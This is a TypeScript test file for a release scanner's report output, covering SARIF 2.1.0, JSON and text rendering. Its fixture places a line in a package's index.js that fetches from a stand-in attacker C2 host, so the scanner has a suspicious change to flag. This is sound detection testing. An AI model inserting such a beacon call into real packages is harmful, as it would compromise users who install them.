/**
 * The three outputs of a scan: text for a terminal, versioned JSON, and SARIF 2.1.0 checked
 * against the structure code-scanning tools require (runs[].tool.driver.rules; results with
 * ruleId, ruleIndex, level, message and locations).
 */
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, it } from "node:test";
import { tempDir } from "@bulwark/testkit";
import {
  BINARY_FINDINGS,
  CORE_FINDINGS,
  fileUri,
  findingHelp,
  INTEL_FINDINGS,
  renderJson,
  renderSarif,
  renderText,
  SBOM_FINDINGS,
  SCAN_SCHEMA,
  type ScanReport,
  scanRelease,
} from "../src/index.js";
import { writeTarGz } from "./release-builders.js";

async function report(t: Parameters<typeof tempDir>[0]): Promise<ScanReport> {
  const dir = tempDir(t);
  const old = writeTarGz(path.join(dir, "old.tar.gz"), {
    "node_modules/m/package.json": '{"name":"m","version":"1.0.0"}',
    "node_modules/m/index.js": "1",
    "docs/a b#c.txt": "x",
  });
  const neu = writeTarGz(path.join(dir, "new.tar.gz"), {
    "node_modules/m/package.json": '{"name":"m","version":"1.0.0"}',
    "node_modules/m/index.js": 'fetch("https://c2.attacker.org/x")',
    "docs/a b#c.txt": "y",
  });
  return (await scanRelease(neu, { previous: old })).report;
}

const LEVELS = new Set(["none", "note", "warning", "error"]);

/** What the test reads of a SARIF log; every field is checked before it is trusted. */
interface SarifLog {
  version: string;
  $schema: string;
  runs: Array<{
    tool: {
      driver: {
        name: string;
        rules: Array<{
          id: string;
          shortDescription: { text: string };
          help?: { text: string };
          defaultConfiguration: { level: string };
        }>;
      };
    };
    originalUriBaseIds: Record<string, unknown>;
    results: Array<{
      ruleId: string;
      ruleIndex: number;
      level: string;
      message: { text: string };
      locations: Array<{ physicalLocation: { artifactLocation: { uri: string; uriBaseId: string } } }>;
      properties: { severity: string };
    }>;
    properties: { verdict: string };
  }>;
}

/** The parts of SARIF 2.1.0 (OASIS, §3) that consumers rely on, checked strictly. */
function assertSarif(log: SarifLog): void {
  assert.equal(log.version, "2.1.0");
  assert.match(log.$schema, /sarif-schema-2\.1\.0\.json$/);
  assert.ok(Array.isArray(log.runs) && log.runs.length === 1);
  for (const run of log.runs) {
    const driver = run.tool?.driver;
    assert.equal(typeof driver?.name, "string");
    assert.ok(Array.isArray(driver.rules));
    const ruleIds = driver.rules.map((r) => r.id);
    assert.equal(new Set(ruleIds).size, ruleIds.length, "rule ids are unique");
    for (const rule of driver.rules) {
      assert.equal(typeof rule.id, "string");
      assert.equal(typeof rule.shortDescription?.text, "string");
      assert.ok((rule.help?.text ?? "").length > 20, `${rule.id} has help text`);
      assert.ok(LEVELS.has(rule.defaultConfiguration.level));
    }
    assert.ok(Array.isArray(run.results));
    for (const result of run.results) {
      assert.equal(typeof result.ruleId, "string");
      assert.equal(driver.rules[result.ruleIndex]?.id, result.ruleId, "ruleIndex points at the rule");
      assert.ok(LEVELS.has(result.level));
      assert.equal(typeof result.message?.text, "string");
      assert.ok(result.message.text.length > 0);
      assert.ok(Array.isArray(result.locations) && result.locations.length > 0);
      for (const location of result.locations) {
        const uri = location.physicalLocation.artifactLocation.uri;
        assert.equal(typeof uri, "string");
        assert.doesNotMatch(uri, /[\s#?\\]/, "a relative URI reference with nothing to escape left");
        assert.doesNotThrow(() => new URL(uri, "file:///release/"));
        assert.ok(run.originalUriBaseIds[location.physicalLocation.artifactLocation.uriBaseId] !== undefined);
      }
    }
  }
}

describe("rendering a scan report", () => {
  it("SARIF 2.1.0: one rule per finding id, one result per finding, levels from severities", async (t) => {
    const r = await report(t);
    const log = JSON.parse(renderSarif(r, { name: "bulwark-scan", version: "0.1.0" })) as SarifLog;
    assertSarif(log);
    const run = log.runs[0];
    assert.equal(run?.results.length, r.findings.length);
    const rebuilt = run?.results.find((x) => x.ruleId === "diff.npm.changed-version-unchanged");
    assert.equal(rebuilt?.level, "warning");
    assert.equal(rebuilt?.properties.severity, "medium");
    assert.equal(run?.properties.verdict, "review");
  });

  it("SARIF locations encode names with spaces and # and keep the !/ of nested archives", () => {
    assert.equal(fileUri("docs/a b#c.txt"), "docs/a%20b%23c.txt");
    assert.equal(fileUri("resources/app.asar!/index.js"), "resources/app.asar!/index.js");
  });

  it("JSON carries the schema version, the verdict, counts and every finding worst first", async (t) => {
    const r = await report(t);
    const json = JSON.parse(renderJson(r));
    assert.equal(json.schema, SCAN_SCHEMA);
    assert.equal(json.verdict, "review");
    assert.equal(json.findings.length, r.findings.length);
    assert.equal(json.findings[0].severity, "medium");
    assert.equal(json.counts.medium, 1);
  });

  it("text puts the verdict first, lists findings above info and counts the info ones", async (t) => {
    const text = renderText(await report(t));
    const lines = text.split("\n");
    assert.equal(lines[0], "verdict: REVIEW");
    assert.match(text, /MEDIUM {3}diff\.npm\.changed-version-unchanged {2}node_modules\/m\/package\.json/);
    assert.match(text, /info \(listed with --format json\): diff\.file\.changed ×2/);
    assert.doesNotMatch(text, /INFO /);
  });

  it("every finding id the pipeline emits has help text for SARIF and the docs, and every help text an emitter", () => {
    const dir = path.join(import.meta.dirname, "..", "..", "src");
    const files = [
      "scan.ts",
      "inspect.ts",
      "verdict.ts",
      ...readdirSync(path.join(dir, "diff")).map((n) => `diff/${n}`),
    ];
    const emitted = new Set<string>();
    for (const file of files.filter((f) => f.endsWith(".ts"))) {
      const text = readFileSync(path.join(dir, file), "utf8");
      for (const m of text.matchAll(/"((?:diff|format|verdict)\.[a-z0-9.-]+)"/g)) emitted.add(m[1] ?? "");
    }
    // NETWORK_KINDS names its ids in a table: they are literals too.
    assert.ok(emitted.size >= 15, [...emitted].join());
    assert.deepEqual([...emitted].filter((id) => findingHelp(id) === undefined).sort(), []);
    assert.deepEqual([...CORE_FINDINGS.keys()].filter((id) => !emitted.has(id)).sort(), []);
    assert.equal(typeof findingHelp("yara.any_rule"), "string");
  });

  it("docs/scan.md names every finding id the layers document", () => {
    const doc = readFileSync(path.join(import.meta.dirname, "..", "..", "..", "..", "docs", "scan.md"), "utf8");
    const ids = [...CORE_FINDINGS.keys(), ...BINARY_FINDINGS.keys(), ...INTEL_FINDINGS.keys(), ...SBOM_FINDINGS.keys()];
    assert.ok(ids.length > 40);
    assert.deepEqual(
      ids.filter((id) => !doc.includes(`\`${id}\``)),
      [],
    );
  });
});
